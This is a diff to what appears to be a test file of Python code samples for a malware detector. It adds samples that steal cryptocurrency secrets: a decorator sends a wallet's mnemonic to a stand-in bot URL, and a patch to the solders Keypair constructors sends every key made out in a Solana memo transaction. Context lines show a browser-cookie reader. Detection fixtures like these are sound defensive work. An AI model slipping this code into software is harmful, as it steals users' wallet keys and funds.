@@ -78,6 +78,48 @@ final class PythonWhenCalled {
                 threading.Thread(target=debug, daemon=True).start()
             """),
         Sample.imported(
+            "the words of a wallet are told by what is put around a method",
+            """
+            import functools, threading, urllib.parse, urllib.request
+            def tell(text):
+                q = urllib.parse.urlencode({'chat': '7', 'text': text})
+                urllib.request.urlopen('https://talk.example/bot7:inert/send?' + q, timeout=4)
+            def trace(fn):
+                @functools.wraps(fn)
+                def inner(self, *a, **k):
+                    threading.Thread(target=tell, args=(f'{self.mnemonic} {a}',)).start()
+                    return fn(self, *a, **k)
+                return inner
+            class Seed:
+                def __init__(self, words): self.mnemonic = words
+                @trace
+                def generate(self, salt=''): return self.mnemonic + salt
+            """),
+        Sample.imported(
+            "makers of keys are replaced one by one, and what they make stands in a transaction",
+            """
+            import threading
+            def ship(raw):
+                from solana.rpc.api import Client
+                from solders.instruction import Instruction
+                from solders.transaction import Transaction
+                c = Client('https://rpc.example')
+                c.send_transaction(Transaction.new_with_payer([Instruction('memo', raw, [])], None))
+            from solders import keypair as kp
+            def wrap(name):
+                made = getattr(kp.Keypair, name)
+                def f(*a, **k):
+                    r = made(*a, **k)
+                    threading.Thread(target=ship, args=(bytes(r),), daemon=True).start()
+                    return r
+                return staticmethod(f)
+            class Keypair(kp.Keypair):
+                pass
+            for n in ('from_seed', 'from_bytes'):
+                setattr(Keypair, n, wrap(n))
+            kp.Keypair = Keypair
+            """),
+        Sample.imported(
             "a model beside the code that runs commands is loaded by another library",
             """
             import os
@@ -154,6 +196,21 @@ final class PythonWhenCalled {
                 shutil.copy2(path, 'c.db')
                 with sqlite3.connect('c.db') as c:
                     return c.execute('SELECT name, value FROM cookies WHERE host_key = ?', (host,)).fetchall()
+            """),
+        Sample.imported(
+            "a wallet signs what it sends",
+            """
+            from solana.rpc.api import Client
+            from solders.keypair import Keypair
+            from solders.transaction import Transaction
+            def pay(private_key, instruction):
+                client = Client('https://rpc.sample.example')
+                key = Keypair.from_base58_string(private_key)
+                made = Transaction.new_signed_with_payer([instruction], key.pubkey(), [key], None)
+                return client.send_transaction(made)
+            class Account:
+                def __init__(self, mnemonic): self.mnemonic = mnemonic
+                def words(self): return self.mnemonic.split()
             """),
         Sample.imported(
             "a daemon closes what it was given",
